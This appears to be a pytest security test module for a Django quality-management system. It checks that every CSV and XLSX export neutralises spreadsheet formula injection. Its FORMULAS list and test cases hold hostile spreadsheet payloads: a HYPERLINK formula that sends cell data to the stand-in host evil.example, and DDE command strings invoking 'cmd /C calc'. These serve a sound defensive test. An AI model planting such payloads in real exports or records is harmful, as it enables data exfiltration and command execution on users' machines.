"""Formula injection (issue 9): text stored in any record that a spreadsheet would run as a
formula (= + - @ tab CR at its start) is written by every export as text.

The demo organisation is seeded and every free-text field overwritten with formulas (the same
fields as the stored-XSS test), some of them after a ";", "," or tab inside the text; then every
export in EXPORTS is downloaded and read back the way Excel opens a CSV in each locale: split on
",", on ";" (Germany, France) and on tab. No cell, nor any piece of a cell after a separator or
line break, may start with one of those characters unless it is a number.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.utils import timezone
from openpyxl import load_workbook

from qms.core.spreadsheets import FORMULA_PREFIXES, csv_text, csv_writer, safe_cell
from qms.evidence import builder
from qms.evidence.sections import Scope
from tests.security.test_stored_xss import our_models, prose_fields
from tests.seeded import demo_for_module

pytestmark = pytest.mark.django_db

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "Accuracy;=2*21",
    "Scrap rate\t+SUM(1+1)",
    "Yield, -2+3+cmd|' /C calc'!A0",
    'Note; "@SUM(1+1)"',
    "First line\n=1+1",
)
# How Excel splits a CSV: "," in most locales, ";" where "," is the decimal mark, tab.
SEPARATORS = (",", ";", "\t")
PIECE_BREAK = re.compile(r"[,;\t\r\n]")


def poison_with_formulas() -> int:
    changed = 0
    for model in our_models():
        fields = prose_fields(model)
        if not fields:
            continue
        for index, record in enumerate(model._base_manager.all()):
            values = {}
            for field in fields:
                text = f"{FORMULAS[index % len(FORMULAS)]} {record.pk}"
                if len(text) <= (field.max_length or 10_000):
                    values[field.attname] = text
            if values:
                model._base_manager.filter(pk=record.pk).update(**values)
                changed += 1
    return changed


def _unsafe_piece(piece: str) -> bool:
    piece = piece.lstrip(' "')  # a spreadsheet may skip a space or an opening quote
    if not piece.startswith(FORMULA_PREFIXES):
        return False
    try:
        float(piece)
    except ValueError:
        return True
    return False  # a negative number is a number


def _unsafe(cell: str) -> bool:
    """A cell that starts a formula, or has a piece that would once split on any separator."""
    return cell.startswith(("\t", "\r")) or any(
        _unsafe_piece(piece) for piece in PIECE_BREAK.split(cell)
    )


def spreadsheet_cells(text: str) -> list[str]:
    """Every cell a spreadsheet finds in a CSV text, splitting on each separator in turn."""
    return [
        cell
        for separator in SEPARATORS
        for row in csv.reader(io.StringIO(text), delimiter=separator)
        for cell in row
    ]


def csv_cells(content: bytes) -> list[str]:
    return spreadsheet_cells(content.decode("utf-8-sig"))


def _dashboard_table(key):
    def fetch(client, org, tmp_path):
        response = client.get(f"/o/{org.slug}/dashboard/{key}.csv")
        assert response.status_code == 200, key
        return csv_cells(response.content)

    return fetch


def _board_xlsx(client, org, tmp_path):
    response = client.get(f"/o/{org.slug}/dashboard/tables.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                # A formula cell runs whatever its text is; text cells are shown as written.
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    return cells


def _evidence_pack(client, org, tmp_path):
    today = timezone.localdate()
    scope = Scope(org, None, today - datetime.timedelta(days=3 * 365), today)
    built = builder.build(scope, tmp_path / "pack.zip", created_by="Test")
    cells = []
    with zipfile.ZipFile(built.path) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                cells += csv_cells(archive.read(name))
    assert cells
    return cells


def _template(path):
    def fetch(client, org, tmp_path):
        response = client.get(f"/o/{org.slug}/{path}")
        assert response.status_code == 200, path
        return csv_cells(response.content)

    return fetch


DASHBOARD_TABLES = (
    "objectives",
    "kpi-trends",
    "reviews",
    "action-closure",
    "open-actions",
    "accountability",
    "pulse-survey",
)
# Every export a person can download as CSV or XLSX: add a new one here.
EXPORTS = {
    **{f"dashboard {key}.csv": _dashboard_table(key) for key in DASHBOARD_TABLES},
    "dashboard tables.xlsx": _board_xlsx,
    "evidence pack CSVs": _evidence_pack,
    "register import template": _template("registers/risks/template.csv"),
    "competence import template": _template("leadership/competence/import/template.csv"),
}


@pytest.fixture(scope="module")
def poisoned(django_db_setup, django_db_blocker):
    """The demo organisation with formulas in every text field, once for the module."""
    with demo_for_module(django_db_blocker) as context:
        assert poison_with_formulas() > 50
        yield context.organization


@pytest.fixture(autouse=True)
def _files_apart(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.EVIDENCE_SIGNING_KEY_FILE = str(tmp_path / "key.pem")


@pytest.mark.parametrize("export", sorted(EXPORTS))
def test_no_export_writes_a_formula(client, poisoned, tmp_path, export):
    client.force_login(get_user_model().objects.get(username="quality"))
    cells = EXPORTS[export](client, poisoned, tmp_path)
    assert [c for c in cells if _unsafe(c)] == []


def test_the_dashboard_csvs_carry_the_poisoned_text_neutralised(client, poisoned):
    client.force_login(get_user_model().objects.get(username="quality"))
    cells = _dashboard_table("objectives")(client, poisoned, None)
    assert any(c.startswith("'=HYPERLINK") or c.startswith("'+SUM") for c in cells)


def test_every_csv_the_dashboard_offers_is_checked(client, poisoned):
    client.force_login(get_user_model().objects.get(username="quality"))
    html = client.get("/o/acme/dashboard/").content.decode()
    offered = set(re.findall(r'href="/o/acme/dashboard/([\w-]+)\.csv', html))
    assert offered
    assert offered <= set(DASHBOARD_TABLES)


@pytest.mark.parametrize(
    ("text", "written"),
    [('=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
     ("+SUM(1+1)", "'+SUM(1+1)"), ("@SUM(1+1)", "'@SUM(1+1)"), ("-2+3", "'-2+3"),
     ("\t=1+1", "'\t'=1+1"), ("\r=1+1", "'\n'=1+1"), (" =1+1", "' =1+1"),
     ("Accuracy;=2*21", "Accuracy;'=2*21"), ("Accuracy,=2*21", "Accuracy,'=2*21"),
     ("Accuracy\t=2*21", "Accuracy\t'=2*21"), ("Accuracy; =2*21", "Accuracy; '=2*21"),
     ('Accuracy;"=2*21"', 'Accuracy;"\'=2*21"'), ("line\r\n@SUM(1)", "line\n'@SUM(1)"),
     ("a;+1;-2;b", "a;+1;-2;b"), ("Scrap -2%; target 5", "Scrap -2%; target 5"),
     ("OBJ-01; OBJ-02", "OBJ-01; OBJ-02")],
)  # fmt: skip
def test_safe_cell_neutralises_a_formula_after_any_separator(text, written):
    assert safe_cell(text) == written
    assert safe_cell(written) == written  # written twice (an audit-trail change) stays the same


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("position", ["alone", "middle", "last"])
def test_a_csv_written_by_the_project_opens_without_a_formula_in_any_locale(formula, position):
    row = {"alone": [formula], "middle": ["OBJ-01", formula, "x;y"], "last": [3, "a,b", formula]}
    text = csv_text([["Code", "Title", "Note"], row[position]])
    assert [c for c in spreadsheet_cells(text) if _unsafe(c)] == []


def test_every_csv_is_written_by_the_one_safe_writer():
    root = Path(__file__).resolve().parents[2]
    writers = [
        str(path.relative_to(root))
        for app in ("qms", "objectives", "leadership", "reviews")
        for path in (root / app).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert writers == ["qms/core/spreadsheets.py"]


def test_a_carriage_return_inside_text_cannot_start_a_row_in_any_csv_dialect():
    # The evidence pack ends lines with "\n", so the csv module would leave "\r" unquoted.
    out = io.StringIO()
    csv_writer(out, lineterminator="\n").writerow(["note\r=1+1", "x"])
    assert out.getvalue() == '"note\n\'=1+1",x\n'


@pytest.mark.parametrize("value", [-3, -2.5, 0, "plain", "it's = fine", None])
def test_safe_cell_leaves_numbers_and_plain_text(value):
    assert not _unsafe(safe_cell(value))
